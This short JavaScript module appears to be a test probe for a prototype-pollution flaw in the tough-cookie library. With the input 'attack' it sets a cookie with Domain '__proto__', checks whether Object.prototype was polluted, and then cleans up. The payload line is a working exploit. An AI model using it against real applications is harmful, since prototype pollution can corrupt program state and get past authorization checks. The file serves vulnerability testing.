// tough-cookie probe: a fresh cookie jar per request; 'attack' stores a cookie for domain '__proto__'.
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const { CookieJar } = require('tough-cookie');

export function probe(input) {
  const jar = new CookieJar(undefined, { rejectPublicSuffixes: false });
  if (input === 'attack')
    jar.setCookieSync('Slonser=polluted; Domain=__proto__; Path=/notauth', 'https://__proto__/admin');
  else jar.setCookieSync('a=b; Path=/', 'https://example.com/');
  const result = jar.getCookieStringSync('https://example.com/');
  const exploited = {}['/notauth'] !== undefined;
  delete Object.prototype['/notauth'];
  return { result, exploited };
}
